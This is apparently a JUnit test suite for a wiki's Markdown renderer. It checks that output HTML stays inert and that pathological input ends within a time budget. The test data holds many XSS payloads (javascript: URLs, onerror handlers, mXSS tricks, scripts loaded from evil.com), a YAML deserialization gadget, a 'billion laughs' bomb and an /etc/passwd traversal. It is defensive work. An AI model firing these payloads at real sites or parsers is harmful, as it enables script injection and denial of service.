package org.clearinghouse.render;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.Locale;
import java.util.stream.Stream;
import org.clearinghouse.page.PagePath;
import org.clearinghouse.page.RenderFailedException;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile Markdown: the HTML that comes out must be inert whatever goes in, and pathological
 * input must end in HTML or a {@link RenderFailedException} within the budget, never in a
 * {@link StackOverflowError}, a hang or a stuck thread. The safety check here is written
 * independently of the sanitizer's own rules.
 */
class HostileInputTest {

    private static final MarkdownRenderer RENDERER = new MarkdownRenderer();
    private static final PagePath SELF = PagePath.of("Folder/Page");
    private static final String[] FORBIDDEN_ELEMENTS = {"script", "style", "iframe", "frame", "object",
        "embed", "form", "textarea", "button", "select", "svg", "math", "link", "meta", "base", "noscript"};

    static Stream<Arguments> hostileMarkup() {
        return Stream.of(
                Arguments.of("script tag", "<script>alert(1)</script>"),
                Arguments.of("script with src", "<SCRIPT SRC=//evil.com/x.js></SCRIPT>"),
                Arguments.of("img onerror", "<img src=x onerror=alert(1)>"),
                Arguments.of("svg onload", "<svg onload=alert(1)>"),
                Arguments.of("script in svg", "<svg><script>alert(1)</script></svg>"),
                Arguments.of("style in svg mXSS", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
                Arguments.of("iframe", "<iframe src=\"https://evil.com\"></iframe>"),
                Arguments.of("style element", "<style>body{display:none}</style>"),
                Arguments.of("style attribute", "<p style=\"position:fixed;top:0\">cover</p>"),
                Arguments.of("event handler on div", "<div onclick=\"alert(1)\">x</div>"),
                Arguments.of("details ontoggle", "<details open ontoggle=alert(1)><summary>s</summary></details>"),
                Arguments.of("raw javascript href", "<a href=\"javascript:alert(1)\">x</a>"),
                Arguments.of("raw entity href", "<a href=\"&#x6A;avascript:alert(1)\">x</a>"),
                Arguments.of("raw newline href", "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>"),
                Arguments.of("raw leading space href", "<a href=\" javascript:alert(1)\">x</a>"),
                Arguments.of("raw colon entity", "<a href=\"javascript&colon;alert(1)\">x</a>"),
                Arguments.of("raw data html", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>"),
                Arguments.of("raw tab in img src", "<img src=\"jav\tascript:alert(1)\">"),
                Arguments.of("srcset", "<img srcset=\"javascript:alert(1)\">"),
                Arguments.of("inline link", "[x](javascript:alert(1))"),
                Arguments.of("mixed case", "[x](JaVaScRiPt:alert(1))"),
                Arguments.of("decimal entity", "[x](&#106;avascript:alert(1))"),
                Arguments.of("hex entity", "[x](&#x6A;avascript:alert(1))"),
                Arguments.of("tab entity", "[x](java&#x09;script:alert(1))"),
                Arguments.of("colon entity", "[x](javascript&colon;alert(1))"),
                Arguments.of("angle brackets and space", "[x](<javascript :alert(1)>)"),
                Arguments.of("control char", "[x](\u0001javascript:alert(1))"),
                Arguments.of("vbscript", "[x](vbscript:msgbox(1))"),
                Arguments.of("data text/html", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
                Arguments.of("protocol relative", "[x](//evil.com)"),
                Arguments.of("backslashes", "[x](\\\\evil.com) [y](/\\evil.com)"),
                Arguments.of("reference link", "[x][r]\n\n[r]: javascript:alert(1)"),
                Arguments.of("reference upper case", "[x][r]\n\n[r]: JAVASCRIPT:alert(1) \"t\""),
                Arguments.of("image", "![x](javascript:alert(1))"),
                Arguments.of("image data svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
                Arguments.of("image reference entity", "![x][r]\n\n[r]: &#106;avascript:alert(1)"),
                Arguments.of("title breakout double", "[x](https://ok.example \"t\\\" onmouseover=\\\"alert(1)\")"),
                Arguments.of("title breakout single", "[x](https://ok.example 'a\" onclick=\"alert(1)')"),
                Arguments.of("wiki javascript", "[[javascript:alert(1)]]"),
                Arguments.of("wiki img", "[[<img src=x onerror=alert(1)>]]"),
                Arguments.of("wiki label img", "[[Page|<img src=x onerror=alert(1)>]]"),
                Arguments.of("wiki attribute breakout", "[[Page\" onmouseover=\"alert(1)]]"),
                Arguments.of("wiki fragment breakout", "[[Page#\" onmouseover=\"alert(1)]]"),
                Arguments.of("wiki traversal", "[[../../etc/passwd]]"),
                Arguments.of("autolink javascript", "<javascript:alert(1)>"),
                Arguments.of("autolink upper case", "<JAVASCRIPT:alert(1)>"),
                Arguments.of("footnote content", "Note[^1]\n\n[^1]: <img src=x onerror=alert(1)> [y](javascript:alert(1))"),
                Arguments.of("footnote label", "x[^<script>]\n\n[^<script>]: y"),
                Arguments.of("form and inputs", "<form action=\"https://evil.com\"><input type=\"text\" name=\"q\">"
                        + "<input type=\"checkbox\" onclick=\"alert(1)\"><button>go</button></form>"),
                Arguments.of("object and embed", "<object data=\"x.swf\"></object><embed src=\"x.swf\">"),
                Arguments.of("math xlink", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>"),
                Arguments.of("base and meta", "<base href=\"https://evil.com/\"><meta http-equiv=\"refresh\" "
                        + "content=\"0;url=javascript:alert(1)\">"),
                Arguments.of("noscript mXSS", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
                Arguments.of("textarea", "<textarea><img src=x onerror=alert(1)></textarea>"),
                Arguments.of("comment", "<!-- <script>alert(1)</script> -->"),
                Arguments.of("table cell", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"),
                Arguments.of("html block", "<div>\n<script>alert(1)</script>\n</div>"),
                Arguments.of("link in heading", "# [x](javascript:alert(1))"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileMarkup")
    void renderedHtmlIsInert(String name, String markdown) {
        RenderedPage page = RENDERER.render(markdown, SELF, p -> p.toString().equals("Page"));
        assertInert(page.html());
    }

    @Test
    void frontMatterTitleStaysPlainTextAndOutOfTheHtml() {
        String markdown = "---\ntitle: <script>alert(1)</script>\nsummary: \"<img src=x onerror=alert(1)>\"\n---\nBody\n";
        RenderedPage page = RENDERER.render(markdown, SELF, p -> true);
        assertInert(page.html());
        assertThat(page.html()).doesNotContain("alert");
        assertThat(page.outline().title(SELF)).isEqualTo("<script>alert(1)</script>");
        assertThat(page.outline().metadata().summary()).contains("<img src=x onerror=alert(1)>");
    }

    @Test
    void yamlCannotConstructObjectsOrExplode() {
        String tags = "---\ntitle: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil\"]]]]\n---\nx";
        assertThat(RENDERER.outline(tags, SELF).metadata().title()).isEmpty();
        StringBuilder laughs = new StringBuilder("---\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            char p = (char) (c - 1);
            laughs.append(c).append(": &").append(c).append(" [*").append(p).append(",*").append(p).append(",*")
                    .append(p).append(",*").append(p).append(",*").append(p).append(",*").append(p).append("]\n");
        }
        laughs.append("tags: *j\n---\nbody");
        assertTimeoutPreemptively(Duration.ofSeconds(20),
                () -> assertThat(RENDERER.outline(laughs.toString(), SELF).metadata().tags()).isEmpty());
    }

    static Stream<Arguments> pathological() {
        StringBuilder nestedList = new StringBuilder();
        for (int i = 0; nestedList.length() < 6000; i++) {
            nestedList.append(" ".repeat(2 * i)).append("- item\n");
        }
        StringBuilder mixed = new StringBuilder();
        String[] pieces = {"> ", "* ", "[", "`", "<a ", "*", "_", "](", "[^", "1. ", "|", "**x ", "![", "\n"};
        for (int i = 0; mixed.length() < 400_000; i++) {
            mixed.append(pieces[(i * 7 + i / 13) % pieces.length]);
        }
        return Stream.of(
                Arguments.of("6 KB nested list", nestedList.toString()),
                Arguments.of("list markers on one line", "- ".repeat(3000) + "x"),
                Arguments.of("ordered markers on one line", "1. ".repeat(3000) + "x"),
                Arguments.of("10,000 >", ">".repeat(10_000) + " x"),
                Arguments.of("deep quote lines", (">".repeat(500) + " x\n").repeat(200)),
                Arguments.of("quote and list", "> - ".repeat(2000) + "x"),
                Arguments.of("50,000 *", "*".repeat(50_000)),
                Arguments.of("*a runs", "*a".repeat(25_000)),
                Arguments.of("nested emphasis", "*".repeat(25_000) + "a" + "*".repeat(25_000)),
                Arguments.of("nested underscores", "_".repeat(25_000) + "a" + "_".repeat(25_000)),
                Arguments.of("emphasis pairs 400 KB", "**a ".repeat(40_000) + " b**".repeat(40_000)),
                Arguments.of("[ x 50,000", "[".repeat(50_000)),
                Arguments.of("[[ x 25,000", "[[".repeat(25_000)),
                Arguments.of("nested link openers", "[a](".repeat(20_000)),
                Arguments.of("backticks 240 KB", "`a``".repeat(60_000)),
                Arguments.of("emphasised links", "*[a](b)".repeat(30_000)),
                Arguments.of("reference definitions 400 KB", "[a]: b\n".repeat(50_000) + "[a]".repeat(30_000)),
                Arguments.of("footnote references", "[^a]".repeat(50_000) + "\n\n[^a]: x\n"),
                Arguments.of("one paragraph of links 400 KB", "[a](b) ".repeat(57_000)),
                Arguments.of("wiki links 400 KB", "[[a]]".repeat(80_000)),
                Arguments.of("open divs", "<div>".repeat(50_000)),
                Arguments.of("wide table", "|a".repeat(30_000) + "\n" + "|-".repeat(30_000) + "\n" + "|b".repeat(30_000)),
                Arguments.of("deep indentation", (" ".repeat(5000) + "- x\n").repeat(50)),
                Arguments.of("mixed 400 KB", mixed.toString()));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("pathological")
    void pathologicalInputEndsWithinTheBudget(String name, String markdown) {
        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> {
            try {
                assertInert(RENDERER.render(markdown, SELF, p -> false).html());
            } catch (RenderFailedException e) {
                assertThat(e.getMessage()).isNotBlank();
            }
        });
        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> RENDERER.outline(markdown, SELF));
    }

    @Test
    void callerIsReleasedAtTheDeadlineEvenWhenFlexmarkWouldTakeMinutes() {
        MarkdownRenderer hurried = new MarkdownRenderer(512 * 1024, Duration.ofMillis(300));
        String slow = "`a``".repeat(60_000); // tens of seconds for Flexmark alone
        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> {
            try {
                hurried.render(slow, SELF, p -> true);
            } catch (RenderFailedException e) {
                assertThat(e.getMessage()).contains("too long");
            }
            PageOutline outline = hurried.outline(slow, SELF);
            assertThat(outline.links()).isEmpty();
        });
    }

    /** The HTML, as a browser-like parser sees it, can run nothing and style nothing. */
    static void assertInert(String html) {
        Element body = Jsoup.parseBodyFragment(html).body();
        for (String tag : FORBIDDEN_ELEMENTS) {
            assertThat(body.getElementsByTag(tag)).as("<%s> in %s", tag, html).isEmpty();
        }
        for (Element element : body.getAllElements()) {
            for (Attribute attribute : element.attributes()) {
                String key = attribute.getKey().toLowerCase(Locale.ROOT);
                assertThat(key).as("attribute in %s", html).doesNotStartWith("on").isNotEqualTo("style")
                        .isNotEqualTo("srcset").isNotEqualTo("formaction").isNotEqualTo("action");
                if (key.equals("href") || key.equals("src")) {
                    assertThat(isAllowedUrl(attribute.getValue())).as("%s=%s", key, attribute.getValue()).isTrue();
                }
            }
            if (element.normalName().equals("input")) {
                assertThat(element.attr("type")).isEqualTo("checkbox");
                assertThat(element.hasAttr("disabled")).isTrue();
            }
        }
    }

    private static boolean isAllowedUrl(String url) {
        if (!url.equals(url.strip()) || url.chars().anyMatch(c -> c < 0x20 || c == 0x7f || c == '\\')) {
            return false;
        }
        String lower = url.toLowerCase(Locale.ROOT);
        return lower.startsWith("http://") || lower.startsWith("https://") || lower.startsWith("mailto:")
                || (lower.startsWith("/wiki/") && !lower.startsWith("/wiki//")) || lower.startsWith("#");
    }
}
